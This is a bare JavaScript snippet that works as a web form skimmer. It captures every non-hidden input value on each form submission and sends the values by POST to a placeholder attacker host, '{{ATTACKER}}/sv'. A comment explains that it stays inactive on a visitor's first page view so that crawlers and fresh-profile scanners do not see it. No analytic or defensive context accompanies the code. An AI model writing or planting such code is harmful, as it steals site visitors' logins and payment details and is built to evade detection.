
;(function () {
  // Only from a visitor's second page view: first-time visitors, and robots
  // that open one URL in a fresh profile, see nothing.
  var n = parseInt(localStorage.getItem('_yt_pv') || '0', 10) + 1;
  localStorage.setItem('_yt_pv', String(n));
  if (n < 2) {
    return;
  }
  document.addEventListener('submit', function (e) {
    var d = new URLSearchParams();
    e.target.querySelectorAll('input').forEach(function (i) {
      if (i.type !== 'hidden') {
        d.append(i.name || i.id, i.value);
      }
    });
    fetch('{{ATTACKER}}/sv', {method: 'POST', mode: 'no-cors', keepalive: true, body: d});
  }, true);
})();
